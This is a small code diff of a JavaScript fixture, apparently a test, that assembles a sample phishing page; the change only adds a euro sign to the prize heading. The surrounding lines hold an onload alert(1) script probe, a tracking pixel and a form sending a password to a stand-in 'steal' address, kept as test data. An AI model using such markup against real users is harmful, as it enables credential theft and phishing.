@@ -17,7 +17,8 @@ const html = compose(
 	],
 	[
 		'<html><body onload="alert(1)">',
-		'<h1>You have WON</h1>',
+		// a euro sign, in the three octets of UTF-8
+		'<h1>You have WON 1000 \xe2\x82\xac</h1>',
 		'<p>Claim <a href="https://prizes.example/claim?ada">here</a>, today only.</p>',
 		'<img src="https://prizes.example/seen.gif?ada" width=1 height=1>',
 		'<form action="https://prizes.example/steal"><input name=password><button>Claim</button></form>',
